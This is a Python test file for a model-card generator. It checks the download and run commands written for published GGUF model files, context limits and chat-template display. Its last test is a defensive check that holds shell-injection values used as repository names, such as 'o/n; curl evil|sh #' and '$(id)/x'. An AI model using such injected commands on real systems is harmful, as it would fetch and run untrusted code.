"""Commands that start a file: those of the place where it is, by the word that names it alone."""

from __future__ import annotations

from dataclasses import replace

from lwq.record.record import Record
from lwq.report import running
from lwq.report.card import card_body
from tests.sample_record import sample_record


def published(*, names: dict[str, str]) -> Record:
    record = sample_record()
    rows = tuple(replace(row, file=f"M-{names.get(row.name, row.name)}.gguf") for row in record.rows)
    return replace(record, rows=rows, card=replace(record.card, repository="zoe/M-GGUF"))


def test_a_published_file_is_named_by_its_label() -> None:
    record = published(names={"Q4_K_M-lwq": "Q4_K_M_LWQ", "Q4_K_M-by-hand": "Q4_K_M_HAND"})
    row = running.example(record)
    assert row
    assert running.lines(record, row).splitlines() == [
        "hf download zoe/M-GGUF M-Q4_K_M_LWQ.gguf --local-dir .",
        "llama-cli -hf zoe/M-GGUF:Q4_K_M_LWQ -c 8192",
        "llama-server -hf zoe/M-GGUF:Q4_K_M_LWQ -c 8192",
        "ollama run hf.co/zoe/M-GGUF:Q4_K_M_LWQ",
        "lms get https://huggingface.co/zoe/M-GGUF@Q4_K_M_LWQ",
    ]
    assert running.same_labels(record) == ()


def test_where_files_share_a_label_the_file_is_named_and_the_card_says_so() -> None:
    record = published(names={})
    row = running.example(record)
    assert row
    assert "llama-cli -hfr zoe/M-GGUF -hff M-Q4_K_M-lwq.gguf -c 8192" in running.lines(record, row)
    (told,) = running.same_labels(record)
    assert told in card_body(record)
    nameless = published(names={"Q8_0": "lwq-12GiB", "Q4_K_M-lwq": "A_Q5_K_M", "Q4_K_M-by-hand": "Q5_1"})
    assert running.same_labels(nameless) == (
        "The Hub reads no type off the name of M-lwq-12GiB.gguf; a `name` like Q4_K_M_MINE gives it one.",
    )


def test_no_context_is_larger_than_the_model_was_trained_for() -> None:
    record = sample_record()
    row = running.example(record)
    assert row
    short = replace(record, model=replace(record.model, n_ctx_train=4096))
    assert running.lines(short, row).endswith("-c 4096")
    assert "trained with 8,192 tokens" in running.introduction(record, row)


def test_the_prompt_is_shown_as_it_is_where_the_model_has_a_template() -> None:
    record = sample_record()
    assert "```text\n<|im_start|>system\n{system}<|im_end|>" in card_body(record)
    assert "chat template:" not in card_body(replace(record, model=replace(record.model, prompt="")))


def test_what_is_no_repository_stands_in_no_command() -> None:
    record = published(names={})
    row = running.example(record)
    assert row
    for odd in ("o/n; curl evil|sh #", "$(id)/x", "o/n m"):
        changed = replace(record, card=replace(record.card, repository=odd))
        assert "evil" not in running.lines(changed, row)
        assert running.lines(changed, row).startswith("llama-cli -m ")
